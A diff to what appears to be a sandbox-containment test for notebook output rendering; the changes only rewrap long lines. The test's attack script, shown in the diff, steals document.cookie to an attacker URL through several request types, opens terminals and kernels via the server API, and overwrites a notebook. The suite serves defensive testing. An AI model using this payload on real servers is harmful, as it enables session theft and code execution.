@@ -80,7 +80,8 @@ def attack_script(server: Server, attacker: str, tag: str) -> str:
     return f"""(function () {{
   var S = {json.dumps(server.url)}, A = {json.dumps(attacker)};
   function leak(what, data) {{
-    try {{ new Image().src = A + '/v/' + what + '-{tag}?d=' + encodeURIComponent(String(data)); }} catch (e) {{}}
+    var url = A + '/v/' + what + '-{tag}?d=' + encodeURIComponent(String(data));
+    try {{ new Image().src = url; }} catch (e) {{}}
   }}
   var cookie = '';
   try {{ cookie = document.cookie; }} catch (e) {{}}
@@ -97,7 +98,8 @@ def attack_script(server: Server, attacker: str, tag: str) -> str:
   }}
   api('POST', '/api/terminals');
   api('POST', '/api/kernels', {{ name: 'python3' }});
-  api('PUT', '/api/contents/notebooks/{VICTIM}', {{ type: 'file', format: 'text', content: 'pwned' }});
+  api('PUT', '/api/contents/notebooks/{VICTIM}',
+      {{ type: 'file', format: 'text', content: 'pwned' }});
   try {{ new WebSocket(S.replace('http', 'ws') + '/terminals/websocket/1'); }} catch (e) {{}}
   try {{ window.top.document.body.setAttribute('data-pwned-top', '{tag}'); }} catch (e) {{}}
   try {{ window.parent.document.body.setAttribute('data-pwned-parent', '{tag}'); }} catch (e) {{}}
@@ -105,7 +107,9 @@ def attack_script(server: Server, attacker: str, tag: str) -> str:
   try {{ new EventSource(A + '/v/eventsource-{tag}'); }} catch (e) {{}}
   try {{ new WebSocket(A.replace('http', 'ws') + '/v/websocket-{tag}'); }} catch (e) {{}}
   try {{ fetch(A + '/v/fetch-{tag}', {{ mode: 'no-cors' }}); }} catch (e) {{}}
-  try {{ var x = new XMLHttpRequest(); x.open('GET', A + '/v/xhr-{tag}'); x.send(); }} catch (e) {{}}
+  try {{
+    var x = new XMLHttpRequest(); x.open('GET', A + '/v/xhr-{tag}'); x.send();
+  }} catch (e) {{}}
   try {{ window.open(A + '/v/open-{tag}'); }} catch (e) {{}}
   document.documentElement.setAttribute('data-hopx-attack-{tag}', 'tried');
 }})();"""
@@ -161,7 +165,8 @@ def attack_cells(server: Server, attacker: str) -> list[str]:
 display(HTML({json.dumps("<script>" + scripts["html"] + "</script>")}))
 display(Javascript({json.dumps(scripts["js"])}))
 display({{"image/svg+xml": {json.dumps(svg)}, "text/plain": "svg"}}, raw=True)
-display(HTML({json.dumps("<script>" + scripts["iso"] + "</script>")}), metadata={{"isolated": True}})
+display(HTML({json.dumps("<script>" + scripts["iso"] + "</script>")}),
+        metadata={{"isolated": True}})
 display(HTML({json.dumps(loading_html(attacker))}))
 display(Markdown("![leak]({attacker}/v/markdown-image) <img src='{attacker}/v/markdown-html'>"))
 print("attack cell done")"""
@@ -210,7 +215,8 @@ def assert_contained(page: Page) -> None:
     for tag in ("html", "js", "svg", "iso"):
         for frame in frames_marked(page, f"data-hopx-attack-{tag}"):
             reaches_page = frame.evaluate(
-                "(() => { try { return !!window.top.document.body; } catch (e) { return false; } })()"
+                "(() => { try { return !!window.top.document.body; }"
+                " catch (e) { return false; } })()"
             )
             assert not reaches_page, f"the {tag} output ran in a frame that reaches the page"
 
